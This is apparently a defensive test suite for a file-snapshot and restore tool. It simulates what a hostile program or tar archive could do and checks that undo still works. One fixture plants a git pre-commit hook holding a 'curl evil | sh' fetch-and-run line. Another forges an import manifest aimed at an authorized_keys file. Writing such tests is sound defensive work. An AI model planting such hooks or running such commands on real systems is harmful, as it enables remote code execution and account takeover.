/**
 * What a hostile program (or a hostile tar) does to the snapshot store, and that the undo still
 * works: planted ignore files, names that are not UTF-8, edits that put the mtime back, files hidden
 * under the default excludes, forged manifests.
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { createWriteStream, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, utimesSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { pipeline } from 'node:stream/promises';
import { pack } from 'tar-stream';
import { decodeName, encodeName, fsPath } from '../../src/snapshot/file-names.js';
import { validateManifest } from '../../src/snapshot/manifest.js';
import { diffAgainst, executeRestore, planRestoreOf } from '../../src/snapshot/restore.js';
import { SnapshotStore } from '../../src/snapshot/store.js';
import { takeSnapshot } from '../../src/snapshot/take-snapshot.js';
import { importSnapshot, pruneSnapshots } from '../../src/snapshot/transfer.js';

let base: string;
before(() => {
  base = mkdtempSync(path.join(os.tmpdir(), 'saferun-snap-hostile-'));
});
after(() => rmSync(base, { recursive: true, force: true }));

function fresh(name: string): { tree: string; store: SnapshotStore } {
  const tree = path.join(base, name, 'tree');
  mkdirSync(tree, { recursive: true });
  return { tree, store: new SnapshotStore(path.join(base, name, 'store')) };
}

async function restoreAll(store: SnapshotStore, id: string): Promise<void> {
  for (const root of (await store.readManifest(id)).roots) await executeRestore(await planRestoreOf(root, root.path, store), store, root.path);
}

/** Every entry of a tree by its raw bytes (hex), with content: names that are not UTF-8 included. */
function rawTree(root: string): Record<string, string> {
  const out: Record<string, string> = {};
  const walk = (dir: Buffer, prefix: string): void => {
    for (const name of readdirSync(dir, { encoding: 'buffer' })) {
      const full = Buffer.concat([dir, Buffer.from('/'), name]);
      const key = `${prefix}${name.toString('hex')}`;
      const info = statSync(full);
      if (info.isDirectory()) {
        out[key] = 'dir';
        walk(full, `${key}/`);
      } else out[key] = readFileSync(full).toString('hex');
    }
  };
  walk(Buffer.from(root), '');
  return out;
}

const USER_NONE = { userExcludes: '' };

test('names are bytes: decode and encode round-trip any name, valid UTF-8 stays as it is', () => {
  for (const bytes of [Buffer.from([0xff, 0xfe]), Buffer.from('evil\\name'), Buffer.from('new\nline'), Buffer.from([0x61, 0xed, 0xa0, 0x80, 0x62]), Buffer.from('ünï ✓ 😀'), Buffer.from([0xc3]), Buffer.from([0xf0, 0x9f, 0x98])]) {
    assert.deepEqual(encodeName(decodeName(bytes)), bytes, bytes.toString('hex'));
  }
  assert.equal(decodeName(Buffer.from('ünï ✓ 😀')), 'ünï ✓ 😀');
  assert.equal(fsPath('plain/name'), 'plain/name', 'no conversion on the common path');
});

test('hole 4: names with backslashes, newlines and bytes that are not UTF-8 are snapshotted, diffed and restored exactly', async () => {
  const { tree, store } = fresh('bytes');
  const at = (...parts: (string | Buffer)[]): Buffer => Buffer.concat([Buffer.from(tree), ...parts.map((p) => Buffer.concat([Buffer.from('/'), Buffer.from(p)]))]);
  writeFileSync(at('evil\\name'), 'backslash\n');
  writeFileSync(at(Buffer.from([0xff, 0xfe])), 'not utf-8\n');
  mkdirSync(at(Buffer.from([0x64, 0xe9])));
  writeFileSync(at(Buffer.from([0x64, 0xe9]), 'inner\nline'), 'nested\n');
  writeFileSync(at('plain.txt'), 'plain\n');
  const before = rawTree(tree);
  const snap = await takeSnapshot([tree], { store, ...USER_NONE });
  assert.equal(snap.files, 4, 'no name is skipped');
  const manifest = await store.readManifest(snap.id); // read back: a backslash no longer rejects the manifest
  assert.ok(manifest.roots[0]!.entries.some((e) => e.path === 'evil\\name'));
  // the program damages all of them and plants a name that is not UTF-8
  writeFileSync(at('evil\\name'), 'changed\n');
  rmSync(at(Buffer.from([0xff, 0xfe])));
  writeFileSync(at(Buffer.from([0x64, 0xe9]), 'inner\nline'), 'changed too\n');
  writeFileSync(at(Buffer.from([0x80, 0x81])), 'planted\n');
  const diff = await diffAgainst(manifest.roots[0]!, tree, store);
  assert.deepEqual(diff.added.map((p) => encodeName(p).toString('hex')), ['8081']);
  assert.deepEqual(diff.deleted.map((p) => encodeName(p).toString('hex')), ['fffe']);
  assert.equal(diff.changed.length, 2);
  await restoreAll(store, snap.id);
  assert.deepEqual(rawTree(tree), before, 'byte for byte, the planted name removed');
  assert.deepEqual((await diffAgainst(manifest.roots[0]!, tree, store)).added, []);
});

test('hole 4: one damaged manifest never disables the store: prune still works and keeps the content it names', async () => {
  const { tree, store } = fresh('damaged');
  writeFileSync(path.join(tree, 'a.txt'), 'a\n');
  const older = await takeSnapshot([tree], { store, ...USER_NONE });
  writeFileSync(path.join(tree, 'b.txt'), 'b\n');
  const newer = await takeSnapshot([tree], { store, ...USER_NONE });
  const file = path.join(store.manifestsDir, `${newer.id}.json`);
  writeFileSync(file, readFileSync(file, 'utf8').replace('"mtimeMs":', '"mtimeMs":"soon","was":'));
  await assert.rejects(store.readManifest(newer.id), /rejected: bad mtimeMs "soon"/);
  assert.equal((await store.readManifest(older.id)).id, older.id, 'the other snapshot still reads');
  const result = await pruneSnapshots(store, 1);
  assert.deepEqual(result.removed, [older.id]);
  assert.deepEqual(result.damaged.map((d) => d.id), [newer.id]);
  assert.equal(result.objectsRemoved, 0, 'the damaged manifest names both contents: both are kept');
});

test('hole 3: a .saferunignore the program planted in a writable root never switches off the next backup', async () => {
  const { tree: out, store } = fresh('planted-ignore');
  writeFileSync(path.join(out, 'results.csv'), 'precious\n');
  const root = { path: out, writable: true };
  await takeSnapshot([root], { store, ...USER_NONE });
  writeFileSync(path.join(out, '.saferunignore'), '*\n'); // run 1 plants it
  const second = await takeSnapshot([root], { store, ...USER_NONE }); // the backup before run 2
  const entries = (await store.readManifest(second.id)).roots[0]!.entries.map((e) => e.path).sort();
  assert.deepEqual(entries, ['.saferunignore', 'results.csv']);
  rmSync(path.join(out, 'results.csv')); // run 2 deletes the user's files
  await restoreAll(store, second.id);
  assert.equal(readFileSync(path.join(out, 'results.csv'), 'utf8'), 'precious\n');
});

test('hole 3: only the user’s own snapshotignore and a read-only root’s .saferunignore exclude anything', async () => {
  const { tree: work, store } = fresh('trusted-ignore');
  const out = path.join(work, 'out');
  mkdirSync(path.join(work, 'data'), { recursive: true });
  mkdirSync(out);
  writeFileSync(path.join(work, 'data', 'big.bin'), 'x');
  writeFileSync(path.join(work, '.saferunignore'), 'data/\n');
  writeFileSync(path.join(work, 'main.py'), 'print(1)\n');
  writeFileSync(path.join(out, '.saferunignore'), '*\n');
  writeFileSync(path.join(out, 'kept.txt'), 'k\n');
  writeFileSync(path.join(out, 'scratch.tmp'), 't\n');
  const snap = await takeSnapshot([{ path: work, writable: false }, { path: out, writable: true }], { store, userExcludes: '*.tmp\n' });
  const [root] = (await store.readManifest(snap.id)).roots;
  assert.equal((await store.readManifest(snap.id)).roots.length, 1, 'the output dir inside the working dir is not walked twice');
  assert.deepEqual(root!.writableDirs, ['out']);
  assert.deepEqual(root!.entries.map((e) => e.path).sort(), ['.saferunignore', 'main.py', 'out', 'out/.saferunignore', 'out/kept.txt']);
});

test('hole 5: an edit that keeps size and mtime is seen by diff and restore, and stored by the next snapshot', async () => {
  const { tree, store } = fresh('same-stat');
  const config = path.join(tree, 'config.txt');
  writeFileSync(config, 'mode = safe\n');
  utimesSync(config, 1_700_000_000, 1_700_000_000);
  const snap = await takeSnapshot([{ path: tree, writable: true }], { store, ...USER_NONE });
  const root = (await store.readManifest(snap.id)).roots[0]!;
  assert.deepEqual(await diffAgainst(root, tree, store), { added: [], changed: [], deleted: [] });
  writeFileSync(config, 'mode = evil\n'); // same length
  utimesSync(config, 1_700_000_000, 1_700_000_000); // os.utime puts the old time back
  assert.equal(statSync(config).mtimeMs, root.entries[0]!.mtimeMs);
  assert.deepEqual((await diffAgainst(root, tree, store)).changed, ['config.txt']);
  const next = await takeSnapshot([{ path: tree, writable: true }], { store, ...USER_NONE });
  assert.equal(next.bytesAdded, 'mode = evil\n'.length, 'the next snapshot reads it again: the stat cache key holds the ctime');
  await restoreAll(store, snap.id);
  assert.equal(readFileSync(config, 'utf8'), 'mode = safe\n');
});

test('hole 6: inside a writable dir the default excludes hide nothing the program planted', async () => {
  const { tree: work, store } = fresh('planted-defaults');
  const out = path.join(work, 'out');
  mkdirSync(path.join(work, '.git'), { recursive: true });
  writeFileSync(path.join(work, '.git', 'HEAD'), 'ref\n');
  mkdirSync(out);
  writeFileSync(path.join(out, 'result.txt'), 'r\n');
  const snap = await takeSnapshot([{ path: work, writable: false }, { path: out, writable: true }], { store, ...USER_NONE });
  mkdirSync(path.join(out, '__pycache__'));
  writeFileSync(path.join(out, '__pycache__', 'x.pyc'), 'bytecode');
  mkdirSync(path.join(out, '.git', 'hooks'), { recursive: true });
  writeFileSync(path.join(out, '.git', 'hooks', 'pre-commit'), '#!/bin/sh\ncurl evil | sh\n');
  const root = (await store.readManifest(snap.id)).roots[0]!;
  assert.ok(!root.entries.some((e) => e.path.startsWith('.git')), "the working dir's own .git stays out (read-only there)");
  const diff = await diffAgainst(root, work, store);
  assert.deepEqual(diff.added.sort(), ['out/.git', 'out/.git/hooks', 'out/.git/hooks/pre-commit', 'out/__pycache__', 'out/__pycache__/x.pyc']);
  await restoreAll(store, snap.id);
  assert.deepEqual(readdirSync(out), ['result.txt']);
  assert.ok(existsSync(path.join(work, '.git', 'HEAD')));
});

async function tarOf(file: string, entries: { name: string; type?: 'file' | 'directory'; body?: string | Buffer }[]): Promise<void> {
  const tar = pack();
  for (const e of entries) {
    if (e.type === 'directory') tar.entry({ name: e.name, type: 'directory' });
    else tar.entry({ name: e.name }, e.body ?? '');
  }
  tar.finalize();
  await pipeline(tar, createWriteStream(file));
}

const ID = '20260102030405678-001abcdef';
const CREATED = '2026-01-02T03:04:05.700Z';
const HASH = '5891b5b522d5df086d0ff0b110fbd9d21bb4fc7163af34d08286a2e846f6be03'; // sha256 of "hello\n"

function forged(overrides: Record<string, unknown>, entry: Record<string, unknown> = {}): string {
  return JSON.stringify({ version: 1, id: ID, createdAt: CREATED, files: 1, bytes: 6, roots: [{ path: '/tmp/victim', entries: [{ path: 'f', type: 'file', mode: 0o644, size: 6, mtimeMs: 0, hash: HASH, ...entry }] }], ...overrides });
}

test('hole 10 and 14a: import checks every field and every entry kind, with clear errors and nothing left behind', async () => {
  const { store } = fresh('import-checks');
  const { createHash } = await import('node:crypto');
  assert.equal(createHash('sha256').update('hello\n').digest('hex'), HASH);
  const object = { name: `objects/${HASH.slice(0, 2)}/${HASH.slice(2)}`, body: 'hello\n' };
  const cases: [string, Parameters<typeof tarOf>[1], RegExp][] = [
    ['objects as a regular file (14a)', [{ name: 'objects', body: 'x' }, object], /unexpected entry "objects" \(file\)/],
    ['manifest as a directory', [{ name: 'manifest.json', type: 'directory' }], /unexpected entry "manifest\.json" \(directory\)/],
    ['two manifests', [{ name: 'manifest.json', body: forged({}) }, { name: 'manifest.json', body: forged({}) }], /manifest\.json twice/],
    ['a date that is not one', [{ name: 'manifest.json', body: forged({ createdAt: 'yesterday' }) }, object], /createdAt "yesterday" is not a date/],
    ['an id saferun never makes', [{ name: 'manifest.json', body: forged({ id: 'zzzzzzzzzz' }) }, object], /id "zzzzzzzzzz" is not one saferun makes/],
    ['an id that does not match its date', [{ name: 'manifest.json', body: forged({ id: '29991231235959999-001abcdef' }) }, object], /does not match createdAt/],
    ['an id from the future', [{ name: 'manifest.json', body: forged({ id: '29991231235959999-001abcdef', createdAt: '2999-12-31T23:59:59.999Z' }) }, object], /dated in the future/],
    ['a negative size', [{ name: 'manifest.json', body: forged({}, { size: -1 }) }, object], /bad size -1/],
    ['a size that is not the content’s', [{ name: 'manifest.json', body: forged({ bytes: 7 }, { size: 7 }) }, object], /says 7 bytes, its content has 6/],
    ['totals that do not add up', [{ name: 'manifest.json', body: forged({ files: 9 }) }, object], /claims 9 files/],
    ['a mode past 07777', [{ name: 'manifest.json', body: forged({}, { mode: 0o100644 }) }, object], /bad mode/],
    ['an mtime that is not a number (14b)', [{ name: 'manifest.json', body: forged({}, { mtimeMs: 'abc' }) }, object], /bad mtimeMs "abc"/],
    ['a root that is not normalised', [{ name: 'manifest.json', body: forged({ roots: [{ path: '/tmp/../etc', entries: [] }], files: 0, bytes: 0 }) }], /not an absolute, normalised path/],
    ['a link with no target', [{ name: 'manifest.json', body: forged({ files: 0, bytes: 0 }, { type: 'symlink', size: 0, target: '' }) }], /bad symlink target/],
    ['a name with a lone surrogate no byte decodes to', [{ name: 'manifest.json', body: forged({}, { path: 'a\ud800b' }) }, object], /unsafe path/],
  ];
  for (const [name, entries, expected] of cases) {
    const file = path.join(base, 'import-checks', 'case.tar');
    await tarOf(file, entries);
    await assert.rejects(importSnapshot(store, file), expected, name);
  }
  assert.deepEqual(await store.listIds(), []);
  assert.deepEqual(readdirSync(store.tmpDir), [], 'no staging left behind');
  assert.deepEqual(readdirSync(store.packsDir), [], 'no pack written');
});

test('hole 10: an imported snapshot is marked as such; diff never creates the directory it names', async () => {
  const { store } = fresh('import-marked');
  const victim = path.join(base, 'import-marked', 'victim');
  const file = path.join(base, 'import-marked', 'evil.tar');
  const now = new Date('2026-01-03T00:00:00Z');
  await tarOf(file, [{ name: 'manifest.json', body: forged({ roots: [{ path: victim, entries: [{ path: 'authorized_keys', type: 'file', mode: 0o600, size: 6, mtimeMs: 0, hash: HASH }] }] }) }, { name: `objects/${HASH.slice(0, 2)}/${HASH.slice(2)}`, body: 'hello\n' }]);
  const imported = await importSnapshot(store, file, now);
  assert.equal(imported.importedAt, now.toISOString());
  assert.equal((await store.readManifest(ID)).importedAt, now.toISOString(), 'the mark is stored, not taken from the tar');
  const diff = await diffAgainst(imported.roots[0]!, victim, store);
  assert.deepEqual(diff.deleted, ['authorized_keys']);
  assert.ok(!existsSync(victim), 'diff created nothing');
});

test('14b: a restore that fails part-way leaves no .saferun-restore-* temp file behind', async () => {
  const { tree, store } = fresh('restore-temp');
  writeFileSync(path.join(tree, 'a.txt'), 'a\n');
  const snap = await takeSnapshot([tree], { store, ...USER_NONE });
  const root = (await store.readManifest(snap.id)).roots[0]!;
  rmSync(path.join(tree, 'a.txt'));
  const plan = await planRestoreOf(root, tree, store);
  plan.writes[0]!.mtimeMs = Number.NaN; // what a manifest with a non-numeric mtime would have handed over
  await assert.rejects(executeRestore(plan, store, tree));
  assert.deepEqual(readdirSync(tree), [], 'the temp file was removed again');
  assert.throws(() => validateManifest({ ...JSON.parse(readFileSync(path.join(store.manifestsDir, `${snap.id}.json`), 'utf8')), roots: [{ ...root, entries: [{ ...root.entries[0], mtimeMs: 'abc' }] }] }, 'm'), /bad mtimeMs "abc"/);
});
